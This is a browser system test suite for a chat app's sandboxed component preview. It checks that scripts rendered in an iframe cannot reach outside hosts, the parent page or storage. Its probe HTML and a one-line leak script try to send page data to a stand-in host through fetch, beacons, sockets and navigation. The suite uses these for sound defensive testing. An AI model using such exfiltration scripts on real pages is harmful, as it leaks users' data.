"""Previews of components from answers, in a frame that is isolated from the page and from every network."""

import json

import pytest
from playwright.sync_api import BrowserContext, FrameLocator, Route, expect

from tests.system.browser import Chat

pytestmark = pytest.mark.timeout(120)

ELSEWHERE = "http://elsewhere.test/"
PROBES = """<!doctype html>
<style>p { color: rgb(1, 2, 3) }</style>
<p id="found">nothing ran</p>
<button onclick="this.textContent = 'pressed'">press</button>
<img src="ELSEWHEREpicture.png"><link rel="stylesheet" href="ELSEWHEREsheet.css">
<script src="ELSEWHEREscript.js"></script>
<script type="module">
const found = {};
const probe = async (name, act) => {
  try { found[name] = (await act()) ?? "nothing"; } catch { found[name] = "shut"; }
};
await probe("origin", () => origin);
await probe("fetch", () => fetch("ELSEWHERE").then(() => "open"));
await probe("own server", () => fetch("/api/auth").then(() => "open"));
await probe("beacon", () => navigator.sendBeacon("ELSEWHEREbeacon") && new Promise((_, no) => setTimeout(no, 50)));
await probe("socket", () => new Promise((yes, no) => {
  const socket = new WebSocket("ws://elsewhere.test/socket");
  [socket.onopen, socket.onerror] = [() => yes("open"), no];
}));
await probe("parent", () => parent.document.title);
await probe("top", () => { top.location = "ELSEWHEREtop"; return "open"; });
await probe("popup", () => window.open("ELSEWHEREpopup") ? "open" : "shut");
await probe("cookie", () => { document.cookie = "a=b"; return document.cookie; });
await probe("localStorage", () => localStorage.length);
await probe("indexedDB", () => indexedDB.open("khala-agent") && "open");
await probe("worker", () => new Worker("/web/assets/agent.js") && "open");
await probe("eval", () => eval("'open'"));
document.getElementById("found").textContent = JSON.stringify(found);
</script>
""".replace("ELSEWHERE", ELSEWHERE)


def elsewhere(browser: BrowserContext) -> list[str]:
    """The requests that reach the other site."""
    reached: list[str] = []

    def answer(route: Route) -> None:
        reached.append(route.request.url)
        route.fulfill(body="")

    browser.route(f"{ELSEWHERE}**", answer)
    return reached


def preview(chat: Chat, info: str, code: str) -> FrameLocator:
    """Have an answer with a code block, and open its preview."""
    chat.send(f"/echo Look:\n\n```{info}\n{code}\n```\n\nThat is all.")
    chat.wait_for_end()
    chat.answer.get_by_role("button", name="Preview").click()
    return chat.answer.frame_locator("iframe")


def test_a_component_runs_and_reaches_nothing_outside_of_its_frame(browser: BrowserContext, chat: Chat) -> None:
    reached = elsewhere(browser)
    chat.register("ada@example.com", "Ada")
    before = chat.url
    frame = preview(chat, "html", PROBES)
    expect(frame.locator("#found")).to_contain_text("{")
    found = json.loads(frame.locator("#found").inner_text())
    assert {name: says for name, says in found.items() if says != "shut"} == {"origin": "null"}
    assert len(found) == 13
    expect(frame.locator("#found")).to_have_css("color", "rgb(1, 2, 3)")
    frame.get_by_role("button").click()
    expect(frame.get_by_role("button")).to_have_text("pressed")
    expect(chat.answer).to_contain_text("Component error: Not allowed here: ")
    assert reached == []
    assert len(browser.pages) == 1
    assert chat.url == before


def test_a_component_cannot_navigate_to_another_site(browser: BrowserContext, chat: Chat) -> None:
    reached = elsewhere(browser)
    leak = f"<script>location = '{ELSEWHERE}?' + encodeURIComponent(document.title)</script>"
    with chat.page.expect_console_message(
        lambda message: "elsewhere.test" in message.text and "frame-src" in message.text
    ):
        preview(chat, "html", leak)
    assert reached == []


def test_a_marked_script_draws_into_its_root_and_a_preview_is_closed_again(chat: Chat) -> None:
    code = "const root = document.getElementById('root');\nroot.textContent = 'drawn </script>';"
    frame = preview(chat, "js component", code)
    expect(frame.locator("#root")).to_have_text("drawn </script>")
    chat.answer.get_by_role("button", name="Reload").click()
    expect(frame.locator("#root")).to_have_text("drawn </script>")
    chat.answer.get_by_role("button", name="Preview").click()
    expect(chat.answer.locator("iframe")).to_have_count(0)
    expect(chat.answer.locator("code")).to_have_text(code)
    assert chat.complaints == []


def test_other_code_has_no_preview(chat: Chat) -> None:
    chat.send("/echo ```js\nlet a = 1;\n```\n\n```html\n\n```\n")
    chat.wait_for_end()
    expect(chat.answer.locator(".code-bar")).to_have_count(2)
    expect(chat.answer.get_by_role("button", name="Preview")).to_have_count(0)
